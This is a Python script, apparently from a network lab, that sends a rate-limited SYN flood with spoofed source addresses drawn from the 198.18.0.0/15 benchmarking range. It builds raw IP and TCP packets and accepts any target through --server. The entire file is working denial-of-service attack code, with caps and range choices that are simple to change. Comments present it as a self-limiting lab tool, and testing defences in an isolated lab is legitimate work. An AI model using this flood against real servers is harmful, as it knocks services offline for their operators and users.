# A bounded flood of TCP SYNs with spoofed source addresses, run inside the lab's attacker
# namespace against the lab's server only. Sources are drawn from 198.18.0.0/15 (RFC 2544's
# benchmarking range): the server has no route back to them, so no reply ever leaves the lab.
# The packet count and the duration are both capped; it stops by itself.
from __future__ import annotations

import argparse
import contextlib
import ipaddress
import json
import random
import socket
import struct
import sys
import time

BENCH_NET = ipaddress.IPv4Network("198.18.0.0/15")


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn_packet(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    tcp = struct.pack(
        "!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 1024, 0, 0
    )
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, src, dst
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", required=True)
    ap.add_argument("--ports", default="7000,8000,9000")
    ap.add_argument("--rate", type=int, default=20000, help="packets per second")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--sources", type=int, default=50000, help="distinct spoofed sources")
    args = ap.parse_args()
    if args.seconds > 120 or args.rate > 200_000:
        print("refusing: the flood is capped at 120 s and 200k packets/s", file=sys.stderr)
        return 2
    ports = [int(p) for p in args.ports.split(",")]
    dst = socket.inet_aton(args.server)
    base = int(BENCH_NET.network_address)
    packets = [
        syn_packet(
            struct.pack("!I", base + random.randrange(BENCH_NET.num_addresses)),
            dst,
            random.randrange(1024, 65535),
            random.choice(ports),
        )
        for _ in range(args.sources)
    ]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    limit = int(args.rate * args.seconds)
    sent = 0
    start = time.perf_counter()
    tick = 0.01
    per_tick = max(1, int(args.rate * tick))
    while sent < limit:
        elapsed = time.perf_counter() - start
        if elapsed > args.seconds + 5:
            break  # the machine could not keep up: stop rather than run long
        due = min(limit, int((elapsed + tick) * args.rate))
        while sent < due:
            for _ in range(min(per_tick, due - sent)):
                # A full queue drops the packet: that is what a flood does.
                with contextlib.suppress(OSError):
                    raw.sendto(packets[sent % len(packets)], (args.server, 0))
                sent += 1
        time.sleep(max(0.0, start + (sent / args.rate) - time.perf_counter()))
    duration = time.perf_counter() - start
    print(json.dumps({"sent": sent, "seconds": round(duration, 3), "pps": round(sent / duration)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
